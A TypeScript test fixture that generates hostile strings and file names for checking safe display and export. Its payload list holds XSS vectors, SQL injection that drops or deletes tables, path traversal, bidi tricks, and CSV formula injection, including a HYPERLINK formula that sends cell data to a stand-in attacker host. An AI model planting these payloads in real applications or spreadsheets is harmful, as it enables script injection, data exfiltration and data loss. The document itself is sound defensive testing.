/**
 * Strings an attacker can plant in a label, note or file name that a case later shows or exports: markup and script,
 * SVG handlers, template and URL tricks, bidi and zero-width controls, CSV formulas, SQL, very long strings.
 * Every script payload sets window.__pwned, so a page test only has to check that it stays undefined.
 */
const PAYLOADS = [
  '<script>window.__pwned=1</script>',
  '<img src=x onerror="window.__pwned=1">',
  '<svg onload="window.__pwned=1"><circle r="40"/></svg>',
  '<svg><animate onbegin="window.__pwned=1" attributeName="x" dur="1s"/></svg>',
  '"><iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
  "'><details open ontoggle=\"window.__pwned=1\">",
  '<a href="javascript:window.__pwned=1">click</a>',
  'javascript:window.__pwned=1',
  '{{constructor.constructor("window.__pwned=1")()}}',
  '${window.__pwned=1}',
  '<style>*{display:none!important}</style>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=1">',
  '&lt;script&gt;window.__pwned=1&lt;/script&gt; &#x3C;b&#x3E;',
  '</td></tr></table></div><div style="position:fixed;inset:0;background:red">',
  '=HYPERLINK("http://attacker.invalid/?d="&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+SUM(1+1)*cmd|" /C calc"!A0',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\uFF1D1+1',
  '\u202Egnp.exe',
  '\u2066\u2067\u2068isolate\u2069\u200F\u200E',
  'zero\u200Bwidth\u200Djoiner\uFEFF',
  "'; DROP TABLE tags; --",
  'Robert"); DELETE FROM audit_log; --',
  '%s%s%s%n%x',
  '..\\..\\..\\windows\\system32',
  'Z\u0351\u0352\u0353\u0354\u0355a\u0356\u0357l\u0358g\u0359o\u035A',
  '\uD83D\uDCA3 \uD83E\uDDE8 emoji',
  'line one\nline two\r\nline three',
];

/** `count` distinct hostile strings; every 100th is 100,000 characters long (one unbroken word, the worst for layout). */
export function hostileStrings(count: number): string[] {
  return Array.from({ length: count }, (_, i) => {
    if (i % 100 === 99) return `${i % 200 === 99 ? 'W'.repeat(100_000) : `=${'A1&'.repeat(33_333)}`}#${i}`;
    // The payload stays at the start (formulas only fire there) and the number keeps each one distinct.
    return `${PAYLOADS[i % PAYLOADS.length]} #${i}`;
  });
}

/** File names with the same tricks, limited to what a file system accepts (no slash, no NUL, under 255 bytes). */
export function hostileFileName(i: number, extension: string): string {
  const base = PAYLOADS[i % PAYLOADS.length]!.replace(/[/\\\0\r\n]/g, '_').slice(0, 120);
  return `${base} ${i}${extension}`;
}
